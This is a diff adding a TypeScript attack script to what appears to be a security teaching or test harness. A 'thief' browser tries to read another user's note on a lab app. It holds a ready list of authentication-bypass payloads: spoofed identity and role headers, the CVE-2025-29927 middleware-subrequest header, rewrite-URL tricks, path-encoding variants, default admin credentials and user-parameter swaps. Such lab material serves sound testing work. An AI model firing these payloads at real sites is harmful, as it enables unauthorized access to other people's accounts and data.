@@ -1,0 +1,91 @@
+import { attack } from "../kit/attack.ts";
+import type { Browser, Exchange } from "../kit/browser.ts";
+
+// #region tricks
+/** Headers that only a proxy or a framework writes, until a visitor types them (CVE-2025-29927 for the seventh). */
+export const CLAIMS: [name: string, value: string][] = [
+  ["x-user", "alice"],
+  ["x-user", "admin"],
+  ["x-forwarded-user", "alice"],
+  ["x-forwarded-user", "admin"],
+  ["x-remote-user", "admin"],
+  ["x-role", "admin"],
+  ["x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"],
+  ["x-original-url", "/login"],
+  ["x-original-url", "/admin"],
+  ["x-rewrite-url", "/login"],
+  ["x-rewrite-url", "/admin"],
+  ["x-forwarded-for", "127.0.0.1"],
+  ["authorization", `Basic ${btoa("admin:admin")}`],
+];
+
+/** Other ways to write a path, for servers whose check and whose router read it differently (CVE-2025-66202). */
+export function spellings(path: string): string[] {
+  const code = path.charCodeAt(1).toString(16);
+  const rest = path.slice(2);
+  return [
+    `/${path}`,
+    `${path}/`,
+    `${path}/.`,
+    `/%${code}${rest}`,
+    `/%25${code}${rest}`,
+    path.toUpperCase(),
+    `${path};x`,
+    `${path}?x=/login`,
+    `/comments/..${path}`,
+    `/login/..${path}`,
+    `/login${path}`,
+    `${path}/login`,
+  ];
+}
+// #endregion
+
+/** The doors behind which a note lies. */
+const DOORS = [
+  { method: "GET", path: "/dashboard" },
+  { method: "POST", path: "/export", body: "" },
+  { method: "POST", path: "/comments", body: "text=hello&attach=note" },
+];
+
+type Attempt = { method: string; path: string; body?: string; headers?: Record<string, string> };
+
+/** Plain first, then with each header, then in each spelling, then with a form that names somebody else. */
+function attempts(): Attempt[] {
+  return [
+    ...DOORS,
+    ...CLAIMS.flatMap(([name, value]) => DOORS.map((door) => ({ ...door, headers: { [name]: value } }))),
+    ...DOORS.flatMap((door) => spellings(door.path).map((path) => ({ ...door, path }))),
+    { method: "GET", path: "/dashboard?user=alice" },
+    { method: "POST", path: "/export?user=alice", body: "user=alice&username=alice&name=alice" },
+  ];
+}
+
+/** Tries every door. Answers the first page that opens and is not one of the thief's own. */
+async function tryDoors(thief: Browser, isOwn: (page: Exchange) => boolean): Promise<string | undefined> {
+  for (const { method, path, body, headers = {} } of attempts()) {
+    const page = await thief.ask(method, path, body, { headers });
+    const opened = page.response.status >= 200 && page.response.status < 300;
+    if (opened && !isOwn(page)) return page.response.body;
+  }
+  return undefined;
+}
+
+export default attack(
+  "trying every door",
+  "One route that somebody forgot to guard gives away what all the others protect.",
+  async ({ thief, victim, say }) => {
+    await victim.login();
+    say("alice is logged in. The thief has no wristband, and walks along the doors.");
+    const asNobody = await tryDoors(thief, () => false);
+    if (asNobody !== undefined) return asNobody;
+
+    say("None opens for a stranger. He logs in as bob and tries again: what opens that is not bob's own?");
+    await thief.login("bob", "builder");
+    const own = [await thief.get("/dashboard"), await thief.post("/export")].map(({ response }) => response.body);
+    const asBob = await tryDoors(thief, ({ response }) => own.includes(response.body));
+    if (asBob !== undefined) return asBob;
+
+    say("Last, he reads the comments: did he make somebody else publish a note?");
+    return (await thief.get("/comments")).response.body;
+  },
+);
